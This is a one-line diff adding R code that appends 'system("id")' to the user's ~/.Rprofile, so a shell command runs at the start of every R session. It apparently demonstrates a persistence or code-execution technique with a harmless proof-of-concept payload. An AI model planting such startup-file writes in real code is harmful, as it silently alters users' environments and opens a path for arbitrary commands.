@@ -1,0 +1,1 @@
+write('system("id")', file = file.path(Sys.getenv("HOME"), ".Rprofile"), append = TRUE)
